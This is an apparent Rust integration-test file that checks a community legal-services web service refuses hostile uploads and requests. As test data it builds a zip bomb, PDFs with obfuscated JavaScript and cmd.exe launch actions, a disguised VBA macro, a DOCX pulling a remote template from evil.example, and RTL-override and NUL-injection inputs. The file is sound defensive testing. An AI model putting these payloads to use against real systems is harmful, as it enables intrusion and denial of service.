//! Hostile requests, one class at a time: each is refused with a clear 4xx (or a 503 that
//! promises nothing), changes nothing, and leaves the service answering.

use crate::helpers::{spawn_app, spawn_app_with, RESIDENT_PHONE};
use reqwest::StatusCode;
use serde_json::{json, Value};
use server::files::inspect::samples;
use std::time::Duration;

/// What every test here checks after its hostile requests: the service still answers.
async fn still_serving(app: &crate::helpers::TestApp) {
    let (status, _) = app.post("directory/streets", json!({})).await;
    assert_eq!(status, StatusCode::OK, "the service answers after the attack");
}

#[tokio::test]
async fn unbounded_work_far_away_dates_and_instants_are_refused_where_they_are_read() {
    let app = spawn_app().await;
    let staff = app.staff_client("staff").await;
    for (from, to) in [
        ("2147483647-12-31", "2147483647-12-31"),
        ("9999-12-31", "9999-12-31"),
        ("1999-12-31", "2000-01-01"),
        ("-2026-01-01", "2026-01-02"),
        ("+2026-01-01", "2026-01-02"),
        ("２０２６-01-01", "2026-01-02"),
    ] {
        let (status, error) = app.post_with(&staff, "staff/board", json!({ "from": from, "to": to })).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{from}..{to}: {error}");
    }
    let resident = app.resident("13912340001").await;
    let community = app.community("后亭社区").await;
    let bookings = app.count("SELECT COUNT(*) FROM bookings").await;
    for slot_start in [json!(i64::MAX), json!(i64::MIN), json!(0), json!(-1), json!(4_200_000_000_000_i64)] {
        let (status, error) = app
            .post_with(
                &resident,
                "booking/book",
                json!({ "community_id": community, "slot_start": slot_start, "channel": "in_person",
                        "topic": "family", "description": "问题" }),
            )
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{slot_start}: {error}");
        assert_eq!(error["message"], "该时段不可预约");
    }
    assert_eq!(app.count("SELECT COUNT(*) FROM bookings").await, bookings, "nothing booked");
    still_serving(&app).await;
}

#[tokio::test]
async fn unbounded_work_a_request_past_its_deadline_is_503_and_stops() {
    let app = spawn_app_with(|c| c.request_deadline = Duration::from_millis(300)).await;
    // Another writer holds what a code request must lock, for longer than the deadline.
    let mut held = app.store.writer().begin().await.expect("begin");
    server::store::lock_key(&mut held, &format!("code-phone:{RESIDENT_PHONE}")).await.expect("lock");
    let send = app.client.post(format!("{}/api/auth/send-code", app.address)).json(&json!({ "phone": RESIDENT_PHONE }));
    let response = send.send().await.expect("request");
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(response.headers().get("retry-after").and_then(|v| v.to_str().ok()), Some("5"));
    let error: Value = response.json().await.expect("json");
    assert_eq!(
        (error["kind"].as_str(), error["message"].as_str()),
        (Some("unavailable"), Some("服务暂时不可用，请稍后再试"))
    );
    // What needs no waiting still answers.
    let health = app.client.get(format!("{}/healthz", app.address)).send().await.expect("healthz");
    assert_eq!(health.status(), StatusCode::OK);
    held.rollback().await.expect("release");
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(app.count("SELECT COUNT(*) FROM one_time_codes").await, 0, "the abandoned request wrote nothing");
    let (status, _) = app.post("auth/send-code", json!({ "phone": RESIDENT_PHONE })).await;
    assert_eq!(status, StatusCode::OK, "the same request succeeds once nothing holds it up");
}

/// A workbook whose first sheet is `sheet`, base64 as the import takes it.
fn workbook_with(sheet: &str, shared: &str) -> String {
    let bytes = samples::office_zip(&[
        (
            "_rels/.rels",
            "<Relationships><Relationship Id=\"rId1\" Target=\"xl/workbook.xml\" \
             Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\"/></Relationships>"
                .into(),
        ),
        (
            "xl/workbook.xml",
            "<workbook xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"s\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"
                .into(),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            "<Relationships><Relationship Id=\"rId1\" Target=\"worksheets/sheet1.xml\" \
             Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\"/></Relationships>"
                .into(),
        ),
        ("xl/worksheets/sheet1.xml", sheet.to_owned()),
        ("xl/sharedStrings.xml", shared.to_owned()),
    ]);
    base64::Engine::encode(&base64::engine::general_purpose::STANDARD, bytes)
}

#[tokio::test]
async fn memory_a_small_workbook_that_addresses_far_cells_or_many_rows_is_refused_while_read() {
    let app = spawn_app().await;
    let staff = app.staff_client("staff").await;
    let lawyers = app.count("SELECT COUNT(*) FROM lawyers").await;
    let far: String = (1..=10).map(|r| format!("<row r=\"{r}\"><c r=\"XFD{r}\"><v>1</v></c></row>")).collect();
    let many: String =
        "<row><c t=\"s\"><v>0</v></c><c t=\"s\"><v>0</v></c><c t=\"s\"><v>0</v></c></row>".repeat(80_000);
    let shared = format!("<sst><si><t>{}</t></si></sst>", "律".repeat(1000));
    for sheet in [far, many] {
        let book = workbook_with(&format!("<worksheet><sheetData>{sheet}</sheetData></worksheet>"), &shared);
        assert!(book.len() < 60_000, "a small request: {} bytes", book.len());
        let (status, error) =
            app.post_with(&staff, "staff/import-lawyers", json!({ "csv": "", "workbook": book, "write": true })).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{error}");
        assert_eq!(error["message"], "一次最多导入2000行、64列", "{error}");
    }
    assert_eq!(app.count("SELECT COUNT(*) FROM lawyers").await, lawyers, "nothing imported");
    still_serving(&app).await;
}

#[tokio::test]
async fn memory_pictures_that_claim_huge_sizes_and_zip_bombs_are_refused_413() {
    let app = spawn_app().await;
    let resident = app.resident("13912340002").await;
    // The header says 8 000 x 5 000 (40 megapixels).
    let png = samples::png_claiming(8_000, 5_000);
    let bomb = samples::office_zip(&[
        ("[Content_Types].xml", "<Types/>".into()),
        ("word/document.xml", format!("<w:document>{}</w:document>", "0".repeat(200 << 20))),
    ]);
    assert!(bomb.len() < 1 << 20, "{} bytes", bomb.len());
    let (files, blobs) = (app.count("SELECT COUNT(*) FROM files").await, app.stored_blobs());
    for (name, bytes) in [("huge.png", png), ("bomb.docx", bomb)] {
        let (status, error) = app.upload(&resident, name, bytes).await;
        assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{name}: {error}");
        assert_eq!(error["field"], "file");
    }
    assert_eq!(app.count("SELECT COUNT(*) FROM files").await, files, "nothing stored");
    assert_eq!(app.stored_blobs(), blobs);
    still_serving(&app).await;
}

#[tokio::test]
async fn active_content_is_refused_however_it_is_spelled_or_named() {
    let app = spawn_app().await;
    let resident = app.resident("13912340005").await;
    let pdf = String::from_utf8(samples::pdf("x")).expect("ascii");
    let escaped =
        pdf.replace("/Type /Catalog", "/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>");
    let launch = pdf.replace("/Type /Catalog", "/Type /Catalog /OpenAction << /S /#4Caunch /F (cmd.exe) >>");
    let renamed_macros = samples::office_zip(&[
        (
            "[Content_Types].xml",
            "<Types><Override PartName=\"/word/data.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>".into(),
        ),
        ("word/document.xml", "<w:document/>".into()),
        ("word/data.dat", "Attribute VB_Name".into()),
    ]);
    let remote_template = samples::office_zip(&[
        ("[Content_Types].xml", "<Types/>".into()),
        ("word/document.xml", "<w:document/>".into()),
        (
            "word/_rels/settings.xml.rels",
            "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>".into(),
        ),
    ]);
    let files = app.count("SELECT COUNT(*) FROM files").await;
    for (name, bytes) in [
        ("a.pdf", escaped.into_bytes()),
        ("b.pdf", launch.into_bytes()),
        ("c.docx", renamed_macros),
        ("d.docx", remote_template),
    ] {
        let (status, error) = app.upload(&resident, name, bytes).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {error}");
        assert_eq!(error["message"], "不接受含有宏、脚本或嵌入文件的文件", "{name}");
    }
    assert_eq!(app.count("SELECT COUNT(*) FROM files").await, files, "nothing stored");
}

#[tokio::test]
async fn text_that_lies_loses_its_hidden_characters_and_a_nul_is_400_on_both_databases() {
    let app = spawn_app().await;
    let resident = app.resident("13912340003").await;
    let file = app.uploaded(&resident, "合同\u{202E}fdp.exe\u{200B}.pdf", samples::pdf("x")).await;
    let name: String = sqlx::query_scalar("SELECT name FROM files WHERE token = $1")
        .bind(&file)
        .fetch_one(&app.store.pool)
        .await
        .expect("name");
    assert_eq!(name, "合同fdp.exe.pdf");
    let codes = app.count("SELECT COUNT(*) FROM one_time_codes").await;
    for body in
        [r#"{"phone":"13812345678\u0000"}"#, r#"{"phone":"\u0000"}"#, r#"{"phone":"13812345678","x":["\u0000"]}"#]
    {
        let (status, error) = app.post_raw("auth/send-code", "application/json", body).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}: {error}");
        assert_eq!(error["message"], "提交的内容含有不允许的字符(NUL)");
    }
    assert_eq!(app.count("SELECT COUNT(*) FROM one_time_codes").await, codes);
    // A NUL in a page's address.
    for path in ["/library?q=%00", "/articles?x=a%00b", "/questions/1%00"] {
        let response = app.client.get(format!("{}{path}", app.address)).send().await.expect("page");
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{path}");
    }
    // Hidden characters in a search are dropped, not searched for.
    let (status, plain) = app.post("library/search", json!({ "query": "合同" })).await;
    assert_eq!(status, StatusCode::OK, "{plain}");
    assert!(plain.as_array().is_some_and(|found| !found.is_empty()), "the demo library has 合同: {plain}");
    let (status, hidden) = app.post("library/search", json!({ "query": "\u{202E}合同\u{200B}" })).await;
    assert_eq!((status, hidden), (StatusCode::OK, plain));
    still_serving(&app).await;
}

#[tokio::test]
async fn ordinary_mistakes_never_get_a_5xx_long_paths_metrics_and_private_pages() {
    let app = spawn_app().await;
    let long = "a".repeat(10_000);
    for path in [format!("/{long}"), format!("/api/{long}"), format!("/library?q={long}"), format!("/files/{long}")] {
        let response = app.client.get(format!("{}{path}", app.address)).send().await.expect("request");
        assert!(response.status().is_client_error(), "{}: {}", &path[..20], response.status());
    }
    for k in 0..200 {
        app.post(&format!("invented-{k}"), json!({})).await;
    }
    let metrics = app.client.get(format!("{}/metrics", app.address)).send().await.expect("metrics");
    let text = metrics.text().await.expect("text");
    assert!(!text.contains("invented-"), "invented paths are one series");
    // The 200 invented endpoints and the long one above.
    assert!(text.contains("route=\"/api/other\",status=\"4xx\"} 201"), "{text}");
    // Pages and answers that may hold someone's own data are not kept by any cache.
    let signed_in = app.resident("13912340004").await;
    for path in ["/me/files", "/questions"] {
        let response = signed_in.get(format!("{}{path}", app.address)).send().await.expect("page");
        let cache = response.headers().get("cache-control").and_then(|v| v.to_str().ok()).map(str::to_owned);
        assert_eq!(cache.as_deref(), Some("private, no-store"), "{path}");
    }
    let mine = signed_in.post(format!("{}/api/booking/mine", app.address)).json(&json!({})).send().await;
    let cache = mine.expect("mine").headers().get("cache-control").and_then(|v| v.to_str().ok()).map(str::to_owned);
    assert_eq!(cache.as_deref(), Some("private, no-store"));
    let ready = app.client.get(format!("{}/readyz", app.address)).send().await.expect("readyz");
    assert_eq!(ready.status(), StatusCode::OK, "a write can be made");
}
